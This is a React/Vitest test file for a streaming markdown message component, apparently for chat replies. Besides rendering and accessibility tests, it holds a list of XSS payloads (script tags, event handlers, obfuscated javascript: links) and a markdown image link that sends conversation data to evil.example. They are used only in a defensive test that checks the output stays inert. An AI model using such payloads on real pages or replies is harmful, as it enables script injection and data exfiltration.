import { act } from '@testing-library/react';
import { flushSync } from 'react-dom';
import { createRoot, hydrateRoot } from 'react-dom/client';
import type { Root } from 'react-dom/client';
import { renderToString } from 'react-dom/server';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { sampleDocument } from '../../test-support/sampleDocument.js';
import { loadOpenBlocks } from '../markdown/MarkdownBlocks.js';
import { StreamingMessage } from './StreamingMessage.js';
import type { StreamingMessageProps } from './StreamingMessage.js';

/** A client root in a detached container, rendered synchronously. */
function mount() {
  const container = document.createElement('div');
  let root: Root | undefined;
  act(() => {
    root = createRoot(container);
  });
  return {
    container,
    render(props: StreamingMessageProps) {
      flushSync(() => root!.render(<StreamingMessage {...props} />));
      return container;
    },
    unmount() {
      act(() => root!.unmount());
    },
  };
}

/** Renders every prefix of `text` as a stream would, calling `check` with the DOM after each. */
function streamEveryPrefix(text: string, check: (container: HTMLElement, prefix: string) => void, step = 1) {
  const view = mount();
  for (let end = 1; end <= text.length; end += step) {
    const prefix = text.slice(0, end);
    check(view.render({ content: prefix, streaming: true }), prefix);
  }
  view.unmount();
}

let actEnvironment: unknown;
beforeEach(() => {
  actEnvironment = (globalThis as { IS_REACT_ACT_ENVIRONMENT?: unknown }).IS_REACT_ACT_ENVIRONMENT;
  (globalThis as { IS_REACT_ACT_ENVIRONMENT?: unknown }).IS_REACT_ACT_ENVIRONMENT = false;
});
afterEach(() => {
  (globalThis as { IS_REACT_ACT_ENVIRONMENT?: unknown }).IS_REACT_ACT_ENVIRONMENT = actEnvironment;
});

describe('StreamingMessage: progressive rendering', () => {
  // It renders the document once per character, twice over: generous room on a loaded machine.
  it(
    'renders every prefix of a long mixed document exactly as a fresh render of that prefix',
    { timeout: 120_000 },
    () => {
      const incremental = mount();
      let mismatches = 0;
      for (let end = 1; end <= sampleDocument.length; end++) {
        const prefix = sampleDocument.slice(0, end);
        const streamed = incremental.render({ content: prefix, streaming: true }).innerHTML;
        const again = mount();
        const alone = again.render({ content: prefix, streaming: true }).innerHTML;
        again.unmount();
        if (streamed !== alone) {
          mismatches++;
          expect.soft(streamed, `prefix ending at ${end}: ${JSON.stringify(prefix.slice(-40))}`).toBe(alone);
          if (mismatches > 3) break;
        }
      }
      expect(mismatches).toBe(0);
      // And once finished, the same as a fresh render of the whole document.
      const finished = incremental.render({ content: sampleDocument, streaming: false }).innerHTML;
      const whole = mount();
      expect(finished).toBe(whole.render({ content: sampleDocument, streaming: false }).innerHTML);
      incremental.unmount();
      whole.unmount();
    },
  );

  it('never re-renders a settled block', () => {
    const renders = vi.fn<() => void>();
    const view = mount();
    const paragraphs = Array.from({ length: 30 }, (_, index) => `Paragraph number ${index} has some text.`).join(
      '\n\n',
    );
    view.render({ content: paragraphs.slice(0, 200), streaming: true });
    const first = view.container.querySelector('p');
    // A DOM node that React never touched again keeps any mark we put on it.
    first!.setAttribute('data-mark', 'untouched');
    const observer = new MutationObserver(renders);
    observer.observe(first!, {
      childList: true,
      characterData: true,
      subtree: true,
      attributes: true,
      attributeFilter: ['class'],
    });
    for (let end = 201; end <= paragraphs.length; end += 7)
      view.render({ content: paragraphs.slice(0, end), streaming: true });
    view.render({ content: paragraphs, streaming: false });
    observer.disconnect();
    expect(view.container.querySelector('p')).toBe(first);
    expect(first!.getAttribute('data-mark')).toBe('untouched');
    expect(renders).not.toHaveBeenCalled();
    view.unmount();
  });

  it('keeps the elements of a block that settles: the block the stream was writing is not built again', () => {
    const view = mount();
    const cases = [
      ['A paragraph written while the reader selects part of it', '\n\nThe next one\n', 'p'],
      ['```ts\nconst answer = 42;\nconsole.log(answer);\n', '```\n\nAfter the code\n', 'pre'],
      ['- first item\n- second item', '\n\n# A heading\n', 'ul'],
    ] as const;
    for (const [streamed, next, selector] of cases) {
      view.render({ content: streamed, streaming: true });
      const element = view.container.querySelector(selector)!;
      const text = element.textContent;
      view.render({ content: streamed + next, streaming: true });
      // Settled now (the next block's first line is whole), and still the very same element.
      expect(view.container.querySelector(selector)).toBe(element);
      expect(element.textContent).toBe(text);
      view.render({ content: streamed + next, streaming: false });
      expect(view.container.querySelector(selector)).toBe(element);
    }
    view.unmount();
  });

  it('falls back to a full parse when the content is replaced rather than extended', () => {
    const view = mount();
    view.render({ content: '# One\n\nFirst answer.\n\nMore.', streaming: true });
    const replaced = view.render({ content: 'Second answer, *different*.', streaming: false });
    expect(replaced.querySelector('h1')).toBeNull();
    expect(replaced.textContent).toContain('Second answer, different.');
    view.unmount();
  });

  it('shows a caret and aria-busy while streaming, and neither when done', () => {
    const view = mount();
    const streaming = view.render({ content: 'Hello', streaming: true });
    expect(streaming.querySelector('.sluice-message')!.getAttribute('aria-busy')).toBe('true');
    expect(streaming.querySelector('p .sluice-caret')).not.toBeNull();
    const done = view.render({ content: 'Hello there.', streaming: false });
    expect(done.querySelector('.sluice-message')!.hasAttribute('aria-busy')).toBe(false);
    expect(done.querySelector('.sluice-caret')).toBeNull();
    view.unmount();
  });

  it('announces each completed block once through a polite live region, not each token', () => {
    const announcements = new Set<string>();
    streamEveryPrefix('First paragraph here.\n\nSecond paragraph here.\n\nThird one.\n\n', (container) => {
      const live = container.querySelector('[aria-live="polite"]')!;
      if (live.textContent !== '') announcements.add(live.textContent!);
    });
    expect([...announcements]).toEqual(['First paragraph here.', 'Second paragraph here.']);
  });
});

describe('StreamingMessage: unfinished syntax never flashes', () => {
  it('never shows emphasis, strikethrough, code or link markers, at any prefix', () => {
    const text =
      'Some **bold words** and *emphasis* and _more_ and ~~gone~~ and `code()` and [the docs](https://example.com/a) end.';
    streamEveryPrefix(text, (container, prefix) => {
      const shown = container.textContent!;
      expect(shown, prefix).not.toMatch(/[*~`[\]]|https:/);
      expect(shown.replace(/\s+/g, ' '), prefix).not.toContain('_');
    });
  });

  it('renders bold as bold from its first letter, and never as the wrong element', () => {
    streamEveryPrefix('Say **hello world** now', (container, prefix) => {
      const strong = container.querySelector('strong');
      if (prefix.length > '**Say h'.length && prefix.length <= 'Say **hello world**'.length) {
        expect(strong?.textContent, prefix).toBe(prefix.slice('Say **'.length).replace(/\*+$/, '').trimEnd());
      }
      expect(container.querySelector('em'), prefix).toBeNull();
    });
  });

  it('renders an unclosed code fence as a code block with its language while it streams', () => {
    streamEveryPrefix(
      'Intro\n\n```python\nprint("hi")\nfor x in range(3):\n    print(x)\n```\n\nAfter.',
      (container, prefix) => {
        const codeStarted = prefix.includes('```python\n');
        const language = container.querySelector('.sluice-code-language');
        if (codeStarted) expect(language?.textContent, prefix).toBe('python');
        expect(container.textContent, prefix).not.toMatch(/``/);
      },
    );
  });

  it('does not flash a trailing "Title\\n-" as a heading before it turns into a list', () => {
    streamEveryPrefix('Title\n- first item\n- second item', (container, prefix) => {
      expect(container.querySelector('h2'), prefix).toBeNull();
      expect(container.textContent, prefix).not.toMatch(/^Title\s*-/);
    });
  });

  it('shows a table from its header row, and never shows pipes as text', () => {
    streamEveryPrefix(
      'Compare:\n\n| Name | Speed |\n|------|-------|\n| fast | 2x |\n| slow | 1x |\n',
      (container, prefix) => {
        expect(container.textContent, prefix).not.toContain('|');
        if (prefix.includes('| Name | Speed |\n')) {
          expect(
            [...container.querySelectorAll('th')].map((cell) => cell.textContent),
            prefix,
          ).toEqual(['Name', 'Speed']);
        }
      },
    );
  });

  it('keeps list items from jumping: a trailing marker adds no empty item', () => {
    let items = 0;
    streamEveryPrefix('- one\n- two\n- three', (container, prefix) => {
      const count = container.querySelectorAll('li').length;
      expect(count, prefix).toBeGreaterThanOrEqual(items);
      items = count;
      for (const item of container.querySelectorAll('li')) expect(item.textContent!.trim(), prefix).not.toBe('');
    });
  });
});

describe('StreamingMessage: safe by default', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><circle /></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](&#106;avascript:alert(1))',
    '[click](&#x6A;avascript:alert(1))',
    '[click](java\tscript:alert(1))',
    '[click](  javascript:alert(1))',
    '[click](\u0001javascript:alert(1))',
    '[click](vbscript:msgbox(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click](javascript&colon;alert(1))',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![secret](https://evil.example/collect?q=the-conversation)',
    '[click][ref]\n\n[ref]: javascript:alert(1)',
    '**<img src=x onerror=alert(1)>**',
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
  ];

  function assertInert(container: HTMLElement, prefix: string) {
    expect(container.querySelector('script, iframe, svg, object, embed, style'), prefix).toBeNull();
    for (const element of container.querySelectorAll('*')) {
      for (const attribute of element.attributes)
        expect(attribute.name.startsWith('on'), `${prefix}: ${attribute.name}`).toBe(false);
    }
    for (const link of container.querySelectorAll('a')) {
      const href = link.getAttribute('href') ?? '';
      expect(/^(https?:|mailto:|\/|#|\.|[^:]*$)/i.test(href), `${prefix}: href ${href}`).toBe(true);
    }
    for (const image of container.querySelectorAll('img')) {
      expect(image.getAttribute('src')!.startsWith('/'), `${prefix}: img ${image.getAttribute('src')}`).toBe(true);
    }
  }

  it.each(payloads)('keeps %j inert at every streamed prefix and when done', (payload) => {
    const text = `Here it is: ${payload}\n\nAnd after.`;
    streamEveryPrefix(text, assertInert);
    const view = mount();
    assertInert(view.render({ content: text, streaming: false }), text);
    view.unmount();
  });

  it('shows raw HTML as the text it is', () => {
    const view = mount();
    const container = view.render({ content: 'Say <b>hi</b> & <i>bye</i>', streaming: false });
    expect(container.textContent).toContain('Say <b>hi</b> & <i>bye</i>');
    expect(container.querySelector('b, i')).toBeNull();
    view.unmount();
  });

  it('shows an image from another origin as a link unless the app allows it', () => {
    const view = mount();
    const blocked = view.render({ content: '![chart](https://cdn.example/chart.png)', streaming: false });
    expect(blocked.querySelector('img')).toBeNull();
    expect(blocked.querySelector('a.sluice-image-link')?.getAttribute('href')).toBe('https://cdn.example/chart.png');
    const allowed = view.render({
      content: '![chart](https://cdn.example/chart.png)',
      streaming: false,
      allowImage: (src) => src.startsWith('https://cdn.example/'),
    });
    expect(allowed.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example/chart.png');
    view.unmount();
  });
});

/** `count` words, taken in turn from `words`: one long paragraph. */
function paragraphOf(words: readonly string[], count: number): string {
  return Array.from({ length: count }, (_, index) => words[index % words.length]).join(' ');
}

/**
 * Streams `text` four characters at a time, to before `until`, as a long paragraph does, then
 * watches what of it is written: `changes()` gives what changed in the paragraph since, and stops.
 */
async function streamedParagraph(text: string, until: number) {
  await loadOpenBlocks();
  const view = mount();
  for (let end = 4; end < until; end += 4) view.render({ content: text.slice(0, end), streaming: true });
  const paragraph = view.container.querySelector('p')!;
  const written = paragraph.firstChild!;
  const observer = new MutationObserver(() => {});
  observer.observe(paragraph, { characterData: true, subtree: true, childList: true });
  const changes = () => {
    const records = observer.takeRecords();
    observer.disconnect();
    return records;
  };
  return { view, paragraph, written, changes };
}

/** Markup without the plain `<span>` around each piece of a long paragraph. */
const withoutSpans = (html: string) => html.replaceAll(/<\/?span>/g, '');

describe('StreamingMessage: a long paragraph', () => {
  it(
    'leaves the written part of a long streaming paragraph alone: updates touch only its end',
    { timeout: 60_000 },
    async () => {
      const words = ['the', 'stream', '**renders**', 'each', '`piece`', 'once,', '[then](https://example.com)'];
      const text = paragraphOf(words, 700);
      const { view, paragraph, written, changes } = await streamedParagraph(text, 4_000);
      for (let end = 4_000; end < 4_040; end += 4) view.render({ content: text.slice(0, end), streaming: true });
      const records = changes();
      expect(records.length).toBeGreaterThan(0);
      // Thousands of characters written before are not visited: no change lands inside them.
      expect(records.filter((record) => written.contains(record.target))).toEqual([]);
      expect(paragraph.firstChild).toBe(written);
      // Once finished, it is what rendering the whole text at once gives (give or take the plain
      // <span> around each piece, which neither shows nor means anything).
      const finished = withoutSpans(view.render({ content: text.slice(0, 4_040), streaming: false }).innerHTML);
      view.unmount();
      const whole = mount();
      expect(finished).toBe(withoutSpans(whole.render({ content: text.slice(0, 4_040), streaming: false }).innerHTML));
      whole.unmount();
    },
  );

  it('keeps what was written of a long paragraph when the next block starts, and when the reply ends', async () => {
    const text = paragraphOf(['a', 'paragraph', '*that*', 'runs', '`on`', 'and', '[on](https://example.com)'], 500);
    const { view, paragraph, written, changes } = await streamedParagraph(text, text.length);
    const next = `${text}\n\nThe next paragraph\n`;
    view.render({ content: next, streaming: true });
    const records = changes();
    // Settled: the same element, what was written untouched, and what marked makes of it whole,
    // give or take the plain <span> around each piece, which neither shows nor means anything.
    expect(view.container.querySelector('p')).toBe(paragraph);
    expect(paragraph.firstChild).toBe(written);
    // `contains` holds for the node itself too.
    expect(records.filter((record) => written.contains(record.target))).toEqual([]);
    const settled = withoutSpans(view.render({ content: next, streaming: false }).innerHTML);
    view.unmount();
    const whole = mount();
    expect(settled).toBe(withoutSpans(whole.render({ content: next, streaming: false }).innerHTML));
    whole.unmount();
  });

  it('keeps what was written of a long paragraph when the reply ends in it', async () => {
    const text = paragraphOf(['the', 'answer', '**ends**', 'in', '`this`', 'paragraph'], 600);
    const { view, paragraph, written, changes } = await streamedParagraph(text, text.length);
    const settled = withoutSpans(view.render({ content: text, streaming: false }).innerHTML);
    const records = changes();
    // The reply's last render builds nothing again: the same element, what was written untouched.
    expect(view.container.querySelector('p')).toBe(paragraph);
    expect(paragraph.firstChild).toBe(written);
    expect(records.filter((record) => written.contains(record.target))).toEqual([]);
    view.unmount();
    const whole = mount();
    expect(settled).toBe(withoutSpans(whole.render({ content: text, streaming: false }).innerHTML));
    whole.unmount();
  });
});

describe('StreamingMessage: task lists', () => {
  it('shows a checkbox, not its markdown, in tight and loose task lists alike', () => {
    const view = mount();
    for (const content of ['- [ ] Write\n- [x] Ship\n', '- [ ] Write\n\n- [x] Ship\n']) {
      const shown = view.render({ content, streaming: false });
      const boxes = [...shown.querySelectorAll('li input[type="checkbox"]')] as HTMLInputElement[];
      expect(boxes.map((box) => box.checked)).toEqual([false, true]);
      expect([...shown.querySelectorAll('li')].map((item) => item.textContent?.trim())).toEqual(['Write', 'Ship']);
    }
    view.unmount();
  });
});

describe('StreamingMessage: code blocks', () => {
  it('labels the language and copies the exact source, saying it is partial while streaming', async () => {
    const writeText = vi.fn<(text: string) => Promise<void>>(async () => {});
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const view = mount();
    const partial = view.render({ content: '```js\nconst a = 1;\nconst b', streaming: true });
    const button = partial.querySelector('button.sluice-copy') as HTMLButtonElement;
    // Its name says it is partial; its text stays the same, so the button does not move as the block ends.
    expect(button.getAttribute('aria-label')).toBe('Copy (partial)');
    expect(button.textContent).toBe('Copy');
    act(() => button.click());
    expect(writeText).toHaveBeenLastCalledWith('const a = 1;\nconst b');
    const done = view.render({ content: '```js\nconst a = 1;\nconst b = "<tag>";\n```\n', streaming: false });
    expect(done.querySelector('.sluice-code-language')?.textContent).toBe('js');
    const finished = done.querySelector('button.sluice-copy') as HTMLButtonElement;
    expect(finished.textContent).toBe('Copy');
    expect(finished.getAttribute('aria-label')).toBeNull();
    await act(async () => finished.click());
    expect(writeText).toHaveBeenLastCalledWith('const a = 1;\nconst b = "<tag>";');
    view.unmount();
  });

  it('leaves the finished lines of a streaming code block alone: each update rewrites only the line being written', () => {
    const lines = Array.from({ length: 200 }, (_, index) => `const line${index} = ${index};`).join('\n');
    const view = mount();
    const code = () => view.container.querySelector('pre code')!;
    view.render({ content: `\`\`\`ts\n${lines}\nconst last`, streaming: true });
    const finished = code().firstChild!;
    const observer = new MutationObserver(() => {});
    observer.observe(code(), { characterData: true, subtree: true, childList: true });
    for (const line of ['const last =', 'const last = 4', 'const last = 42;']) {
      view.render({ content: `\`\`\`ts\n${lines}\n${line}`, streaming: true });
    }
    const records = observer.takeRecords();
    observer.disconnect();
    // The 6,000 characters of finished lines are the same text node, never rewritten.
    expect(code().firstChild).toBe(finished);
    expect(finished.textContent).toBe(`${lines}\n`);
    // Three updates, each one write to the short text node of the line being written, and nothing else.
    const openLine = code().childNodes[1]!;
    expect(openLine.textContent).toBe('const last = 42;');
    expect(records.map((record) => [record.type, record.target === openLine])).toEqual([
      ['characterData', true],
      ['characterData', true],
      ['characterData', true],
    ]);
    view.render({ content: `\`\`\`ts\n${lines}\nconst last = 42;\n\`\`\`\n`, streaming: false });
    expect(code().textContent).toBe(`${lines}\nconst last = 42;`);
    view.unmount();
  });

  it('highlights a finished block once, not on every later token, sync or async', async () => {
    const highlight = vi.fn<(code: string) => React.ReactNode>((code: string) => (
      <span className="highlighted">{code}</span>
    ));
    const view = mount();
    const document = '```ts\nlet x = 1;\n```\n\nAnd then a long paragraph follows, token by token, for a while.';
    for (let end = 1; end <= document.length; end++)
      view.render({ content: document.slice(0, end), streaming: true, highlight });
    expect(highlight).toHaveBeenCalledTimes(1);
    expect(view.container.querySelector('.highlighted')?.textContent).toBe('let x = 1;');

    const asynchronous = vi.fn<(code: string) => Promise<React.ReactNode>>(async (code: string) => (
      <span className="async-highlighted">{code}</span>
    ));
    const other = mount();
    act(() => {
      other.render({ content: '```ts\nlet y = 2;\n```\n', streaming: false, highlight: asynchronous });
    });
    await vi.waitFor(() => expect(other.container.querySelector('.async-highlighted')?.textContent).toBe('let y = 2;'));
    view.unmount();
    other.unmount();
  });
});

describe('StreamingMessage: server rendering', () => {
  it('renders to a string on the server and hydrates without a mismatch', () => {
    const html = renderToString(<StreamingMessage content={sampleDocument} streaming={false} />);
    expect(html).toContain('<h1>Streaming answers</h1>');
    const container = document.createElement('div');
    container.innerHTML = html;
    const errors = vi.spyOn(console, 'error').mockImplementation(() => {});
    const recoverable = vi.fn<(error: unknown) => void>();
    act(() => {
      hydrateRoot(container, <StreamingMessage content={sampleDocument} streaming={false} />, {
        onRecoverableError: recoverable,
      });
    });
    expect(recoverable).not.toHaveBeenCalled();
    expect(errors).not.toHaveBeenCalled();
    errors.mockRestore();
  });
});
